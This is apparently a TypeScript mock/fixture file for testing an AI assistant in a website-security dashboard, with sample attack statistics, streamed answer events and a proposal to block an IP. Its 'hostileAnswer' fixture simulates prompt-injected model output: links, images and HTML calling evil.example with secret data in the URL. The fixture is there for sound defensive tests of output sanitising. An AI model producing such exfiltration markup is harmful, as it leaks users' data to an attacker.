import { http } from 'msw'

import type {
  AssistantStatus,
  AskEvent,
  Conversation,
} from '../../../contract/assistant/conversation.ts'
import type { Answer, Message } from '../../../contract/assistant/message.ts'
import type { Proposal } from '../../../contract/assistant/proposal.ts'
import type { Reading } from '../../../contract/assistant/reading.ts'
import { acme } from './organisation.ts'
import { hesitating } from './settled.ts'

const id = (n: number) => `00000000-0000-4000-8000-0000000009${String(n).padStart(2, '0')}`
export const WEBSITE_ID = id(1)
const at = '2026-01-15T11:20:00.000Z'

export const withoutModel: AssistantStatus = {
  model: null,
  budget: { used: 0, allowed: 50, renews_at: '2026-02-01T00:00:00.000Z' },
  suggestions: [
    'What attacks were there today?',
    'What changed today?',
    'Why does my website have this grade?',
    'How do I fix the failed checks?',
    'What do I owe?',
  ],
}
export const withModel: AssistantStatus = {
  ...withoutModel,
  model: 'qwen3-32b',
  budget: { used: 41, allowed: 1000, renews_at: '2026-02-01T00:00:00.000Z' },
}

/** 412 in total. */
const blockedByHour = [
  8, 6, 5, 4, 4, 6, 9, 14, 18, 22, 24, 26, 25, 27, 29, 31, 33, 30, 26, 21, 17, 12, 9, 6,
]
const actions = ['blocked', 'logged', 'challenged', 'allowed']
export const counts: Reading = {
  call: 'GET /v1/attacks/counts',
  title: 'Attacks over time',
  href: '/recent-attacks',
  columns: [
    { label: 'Action', kind: 'text' },
    { label: 'Requests', kind: 'number' },
  ],
  rows: actions.map((action, n) => ({
    ref: `r${n + 1}`,
    label: `${[412, 18, 0, 0][n]} ${action}`,
    href: `/recent-attacks?action=${action}`,
    cells: [action, [412, 18, 0, 0][n] ?? 0],
  })),
  has_more: false,
  currency: null,
  chart: {
    series: actions,
    points: Array.from({ length: 24 }, (_, hour) => ({
      at: `2026-01-14T${String(hour).padStart(2, '0')}:00:00.000Z`,
      values: [blockedByHour[hour] ?? 0, hour % 4 === 3 ? 3 : 0, 0, 0],
    })),
  },
}
export const attacks: Reading = {
  call: 'GET /v1/attacks',
  title: 'Attacks',
  href: '/recent-attacks',
  columns: [
    { label: 'Time', kind: 'time' },
    { label: 'Action', kind: 'text' },
    { label: 'Source', kind: 'code' },
    { label: 'Request', kind: 'code' },
  ],
  rows: [
    ['198.51.100.7', 'GET shop.example.com/products'],
    ['198.51.100.7', 'POST shop.example.com/login'],
    ['2001:db8::7', 'GET shop.example.com/a-very-long-path-that-has-no-place-to-wrap/../etc'],
  ].map(([address = '', request = ''], n) => ({
    ref: `r${n + 5}`,
    label: `blocked ${request} from ${address}`,
    href: `/recent-attacks?attack=${id(20 + n)}`,
    cells: [`2026-01-14T1${n}:02:00.000Z`, 'blocked', address, request],
  })),
  has_more: true,
  currency: null,
  chart: null,
}

export const blockCard: Proposal = {
  id: id(30),
  organisation_id: acme.id,
  title: 'Block 198.51.100.7 on shop.example.com',
  target: { label: 'shop.example.com', href: `/domain/${WEBSITE_ID}/manage?tab=rules` },
  changes: [
    { field: 'Requests from 198.51.100.7', before: 'Not blocked', after: 'Blocked' },
    { field: 'Reason', before: '–', after: 'Most attacks yesterday' },
  ],
  note: null,
  state: 'open',
  failure: null,
  created_at: at,
  expires_at: '2026-01-16T11:20:00.000Z',
  decided_at: null,
}

export const attackAnswer: Answer = {
  id: id(41),
  role: 'assistant',
  text: 'There were **430 attacks** yesterday: 412 blocked [r1], 18 logged [r2].\n\nMost came from 198\\.51\\.100\\.7 [r5]. The newest:\n\n- blocked GET /products from 198\\.51\\.100\\.7 [r5]\n- blocked POST /login from 198\\.51\\.100\\.7 [r6]',
  state: 'complete',
  failure: null,
  model: null,
  readings: [counts, attacks],
  proposals: [blockCard],
  follow_ups: ['Which attacks were not blocked?', 'Which addresses are blocked?'],
  created_at: at,
}
const asked = (n: number, text: string): Message => ({
  id: id(n),
  role: 'person',
  text,
  page: null,
  created_at: at,
})
export const attackQuestion = asked(40, 'Which attacks were there yesterday?')

export const conversation: Conversation = {
  id: id(50),
  title: 'Which attacks were there yesterday?',
  created_at: at,
  updated_at: at,
}
export const conversations: Conversation[] = [
  conversation,
  { ...conversation, id: id(51), title: 'What do I owe?', updated_at: '2026-01-12T09:00:00.000Z' },
  {
    ...conversation,
    id: id(52),
    title: 'Why does a-very-long-name-of-a-website-that-breaks.example.com have this grade?',
    updated_at: '2026-01-03T09:00:00.000Z',
  },
]

/** What a model might write after a prompt injection: none of it may become a link, an image or HTML. */
export const hostileAnswer: Answer = {
  ...attackAnswer,
  id: id(42),
  model: 'qwen3-32b',
  text: 'See [the report](https://evil.example/?data=secret) ![chart](https://evil.example/p.png?data=secret) <img src="https://evil.example/x"> <a href="//evil.example">here</a> [r1] [r99]\n\n[r1]: https://evil.example/r1',
  proposals: [],
  follow_ups: [],
}

/** Streams an answer. Without `ended`, the connection stays open. */
export const streams = (events: readonly AskEvent[], { stays = false } = {}) =>
  http.post('/v1/assistant/ask', ({ request }) => {
    if (stays) hesitating.add(request)
    return new Response(
      new ReadableStream<Uint8Array>({
        start: (controller) => {
          for (const event of events) {
            controller.enqueue(new TextEncoder().encode(`data: ${JSON.stringify(event)}\n\n`))
          }
          if (!stays) controller.close()
        },
      }),
      { headers: { 'content-type': 'text/event-stream' } },
    )
  })

const question = attackQuestion as Extract<AskEvent, { type: 'started' }>['question']
export const answering: AskEvent[] = [
  { type: 'started', conversation, question, answer_id: attackAnswer.id },
  { type: 'reads', title: 'attacks' },
  { type: 'read', reading: counts },
  { type: 'text', text: 'There were **430 attacks** yesterday: 412 ' },
  { type: 'text', text: 'blocked [r1].' },
]
export const answered: AskEvent[] = [...answering, { type: 'ended', answer: attackAnswer }]
